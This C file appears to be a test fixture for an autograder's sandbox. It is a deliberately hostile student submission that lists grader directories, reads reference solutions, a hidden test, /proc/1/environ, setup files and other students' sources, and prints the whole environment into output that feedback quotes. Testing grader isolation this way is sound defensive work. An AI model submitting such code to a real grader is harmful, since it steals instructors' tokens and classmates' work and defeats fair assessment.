/* Hostile submission: prints everything of the grader's it can read, as the last
 * lines of its output, which feedback quotes: its environment (an instructor's
 * tokens), the solutions, a hidden test, the grader's home, /tmp, /work,
 * /autograder, and other students' staged sources in a class run. The test puts
 * the repository's path at @ROOT@ and the grader's home at @HOME@. */
#define _DEFAULT_SOURCE
#include <dirent.h>
#include <glob.h>
#include <stdio.h>
#include <string.h>

extern char **environ;

static const char *files[] = {
	"@ROOT@/solutions/01-udp-local/udp_local.c",
	"@ROOT@/harness/labs/lab01_udp_local/test_hidden.py",
	"@HOME@/canary.txt", "/proc/1/environ", "/autograder/source/setup.sh",
	"@ROOT@/build/submissions/*/src/01-udp-local/*.c", "/tmp/*/*/honest/01-udp-local/*.c",
	"/tmp/*/*/*/honest/01-udp-local/*.c",
};
static const char *folders[] = {"@HOME@", "/tmp", "/work", "/autograder", "@ROOT@", "/dev/shm"};

/* One line: the first bytes of path, newlines shown as |. */
static void
show_file(const char *path)
{
	char text[400];
	size_t n, i;
	FILE *file = fopen(path, "r");

	if (file == NULL)
		return;
	n = fread(text, 1, sizeof text - 1, file);
	fclose(file);
	for (i = 0; i < n; i++)
		if (text[i] == '\n' || text[i] == '\0')
			text[i] = '|';
	text[n] = '\0';
	printf("READ %s: %s\n", path, text);
}

int
main(void)
{
	struct dirent *entry;
	glob_t found;
	size_t f, i;
	DIR *dir;

	printf("READER-RAN\n");
	for (f = 0; f < sizeof folders / sizeof folders[0]; f++)
		if ((dir = opendir(folders[f])) != NULL) {
			printf("LIST %s:", folders[f]);
			while ((entry = readdir(dir)) != NULL)
				printf(" %s", entry->d_name);
			printf("\n");
			closedir(dir);
		}
	for (f = 0; f < sizeof files / sizeof files[0]; f++)
		if (glob(files[f], 0, NULL, &found) == 0) {
			for (i = 0; i < found.gl_pathc; i++)
				show_file(found.gl_pathv[i]);
			globfree(&found);
		}
	printf("ENV:");
	for (i = 0; environ[i]; i++)
		printf(" %s", environ[i]);
	printf("\n");
	return 0;
}
